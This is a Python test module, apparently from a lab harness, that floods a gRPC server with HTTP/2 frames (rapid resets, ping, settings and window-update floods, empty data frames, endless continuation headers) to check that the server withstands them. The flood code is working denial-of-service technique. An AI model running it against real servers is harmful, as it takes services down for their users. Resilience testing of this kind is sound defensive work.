"""Floods below gRPC: calls that are reset at once, pings, settings, empty frames, endless headers.

Must hold: the server ends such connections or bears them, and W goes on.
"""

import os
import struct
import time
from collections.abc import Callable

from abuse.caller import GROUPS
from abuse.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RESET,
    SETTINGS,
    WINDOW,
    Connection,
    frame,
    headers,
)
from abuse.lab import Target, begins, stage

EACH_S = 4.0
AT_ONCE = 200
_CANCELLED = struct.pack(">I", 8)
_WINDOW_SETTING = 4
_BLOCK = headers(GROUPS + "Heartbeat")
_LONG_HEADER = b"\x10\x04long\x7f\x81\x7d" + b"v" * (127 + 16_001)


def reset_calls(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, _BLOCK) + frame(RESET, 0, stream, _CANCELLED)


def pings(_: int) -> bytes:
    return frame(PING, 0, 0, os.urandom(8))


def settings(stream: int) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", _WINDOW_SETTING, 65_535 + stream % 1_000))


def window_updates(_: int) -> bytes:
    return frame(WINDOW, 0, 0, struct.pack(">I", 1))


def empty_data(_: int) -> bytes:
    return frame(DATA, 0, 1)


def endless_headers(stream: int) -> bytes:
    return frame(HEADERS, 0, 1, _BLOCK) if stream == 1 else frame(CONTINUATION, 0, 1, _LONG_HEADER)


FLOODS: tuple[Callable[[int], bytes], ...] = (
    reset_calls,
    pings,
    settings,
    window_updates,
    empty_data,
    endless_headers,
)


def flood(address: str, make: Callable[[int], bytes]) -> str:
    """Sends as much of one kind as goes in some seconds, on new connections where old ones are ended."""
    ends_s = time.monotonic() + EACH_S
    frames = connections = 0
    why: set[str] = set()
    while time.monotonic() < ends_s:
        connection = Connection(address)
        connections += 1
        stream = 1
        while time.monotonic() < ends_s and not connection.dead and not connection.goaway:
            connection.send(b"".join(make(number) for number in range(stream, stream + 2 * AT_ONCE, 2)))
            stream += 2 * AT_ONCE
            frames += AT_ONCE
            connection.poll()
        for _ in range(3):
            connection.poll(0.02)
        if connection.goaway:
            why.add(connection.goaway[:60])
        connection.close()
    return f"{frames:,} {make.__name__} on {connections} connections {sorted(why)[:2]}"


async def attack(target: Target) -> str:
    begins()
    return "\n  ".join(flood(target.owner, make) for make in FLOODS)


if __name__ == "__main__":
    stage(attack)
